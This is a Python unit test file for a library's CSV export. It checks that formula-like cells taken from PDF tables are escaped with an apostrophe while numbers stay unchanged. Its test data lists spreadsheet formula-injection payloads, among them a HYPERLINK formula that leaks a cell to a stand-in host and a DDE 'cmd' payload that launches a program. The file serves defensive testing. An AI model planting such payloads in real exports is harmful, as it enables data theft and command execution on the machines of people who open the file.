"""A table downloaded as CSV never hands a spreadsheet a formula: text from a PDF that starts
like one ("=HYPERLINK(...)", "+cmd|...", "@SUM(...)", "-2+3") is prefixed with an apostrophe,
so it shows as the text it is; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from ingest.core.types import Table

pytestmark = pytest.mark.unit

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3",
           "\t=1+1", "\r=1+1"]


def test_formula_cells_are_text_and_numbers_stay_numbers():
    table = Table(columns=["=Report", "Quote"], rows=[[cell, "-5"] for cell in HOSTILE] + [["12.5%", "+3"]])
    rows = list(csv.reader(io.StringIO(table.to_csv())))
    assert rows[0] == ["'=Report", "Quote"]
    for (cell, number), original in zip(rows[1:-1], HOSTILE, strict=True):
        assert cell == "'" + original and number == "-5"
    assert rows[-1] == ["12.5%", "+3"]
    assert all(not value.startswith(("=", "+", "@", "\t", "\r")) or value in ("+3",) for row in rows for value in row)
